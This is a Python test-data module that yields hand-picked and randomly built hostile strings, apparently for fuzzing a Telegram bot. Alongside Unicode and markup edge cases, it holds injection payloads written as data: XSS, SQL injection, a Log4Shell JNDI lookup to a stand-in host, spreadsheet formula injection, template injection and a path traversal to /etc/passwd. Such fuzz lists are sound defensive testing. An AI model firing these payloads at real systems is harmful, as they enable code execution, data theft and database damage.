"""Strings that people, callers and exchanges should not send, and do."""

from collections.abc import Iterator
from random import Random
from typing import Final

BY_HAND: Final = (
    "<b>жирно</b>", "<script>alert(1)</script>", "</b></i></a>", "<a href='tg://user?id=1'>я</a>", "&lt;b&gt;",
    "&amp;amp;",
    "&#60;b&#62;", "*жирно* _косо_ `код`", "[ссылка](https://evil.example)", "[я](tg://user?id=100001)",
    "```\nкод\n```",
    "||тайна||", "~~нет~~", "__низ__", "@virtual_vats_bot", "@admin", "#тег", "$TON", "/dnd on", "/start code",
    "\n/dnd on",
    "https://evil.example/?a=1&b=2", "tg://resolve?domain=evil", "t.me/evil?start=x", "mailto:a@b.ru", "+79990001122",
    "\u202eтекст наоборот\u202c", "\u2066изолят\u2069", "\u200f\u200e", "а\u200bб\u200cв\u200dг",
    "\ufeffметка", "\u061c", "\u00ad",
    "\x00", "а\x00б", "\x1b[31mкрасно\x1b[0m", "\x07\x08\x7f", "\r\n\r\nHTTP/1.1 200 OK", "строка\rдругая",
    "\u2028\u2029",
    "\x85", "\t\t", "   ", "\u3000\u00a0\u2007", "\ud800", "\udfff", "а\ud83dб",
    "🙂" * 50, "👨‍👩‍👧‍👦" * 20, "🇷🇺🇷", "e\u0301" * 40,
    "Z̸̡̢͚͖͙̟̱̗͉͎̆̈́̔͋͝a̶l̵g̷o̸",
    "ﷺ" * 30, "а" * 10_000, "🙂" * 5_000, "<b>" * 3_000, "\n" * 5_000, " " * 10_000, "-" * 4_097,
    "=1+1", '=HYPERLINK("http://evil.example")', "+79990001122+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
    "=cmd|'/c calc'!A1",
    "' OR 1=1 --", "'; DROP TABLE people; --", "%s %d %n", "{0} {name} {}", "${jndi:ldap://evil}", "{{7*7}}",
    "%00%0a%0d",
    "../../etc/passwd", "C:\\con", "null", "None", "undefined", "NaN", "true", "0", "-1", "1e309",
    "9" * 400, "[]", "{}", '"',
    "'", "\\", "\\\\", "`", "«»", "«", "»", '"""', ";", "|", "&", "&&", "!", "~", "·", "…", "‹", "›", "İ", "ı",
    "ß", "ﬁ",
    "Ａｄｍｉｎ", "аdmin", "pаypal", "҉", "𝕬𝖉𝖒𝖎𝖓", "١٢٣", "½", "Ⅳ", "①", "", "\ufffd", "\uffff", "\U0010ffff", "\ue000",
)  # fmt: skip

_PIECES: Final = (
    "Анна", "Отдел", "79161234567", "<b>", "</b>", "&", "*", "_", "`", "[", "](", ")", "@", "#", "/", "\n",
    "\r", "\t",
    "\x00", "\u202e", "\u2067", "\u200b", "\u200d", "\u2028", "\ud800", "\udc00", "🙂", "👩", "é", "e\u0301", "ё", "Щ",
    "=", "+", "-", "'", '"', "«", "»", "\\", "%", "{", "}", "$", "|", ";", ":", "...", "٣", "ﷺ", " ", "\u00a0",
    "\x1b[",
)  # fmt: skip


def strings(seed: int, many: int) -> Iterator[str]:
    """Give those by hand first, then made ones."""
    yield from BY_HAND[:many]
    random = Random(seed)
    for _ in range(many - len(BY_HAND)):
        yield made(random)


def made(random: Random) -> str:
    """Make one: pieces put together, some of any plane of Unicode, now and then very long."""
    length = random.choice((1, 2, 3, 5, 8, 20, 60))
    pieces = [
        random.choice(_PIECES) if random.random() < 0.9 else chr(random.randrange(0x110000)) for _ in range(length)
    ]
    return "".join(pieces) * (random.choice((100, 400)) if random.random() < 0.02 else 1)
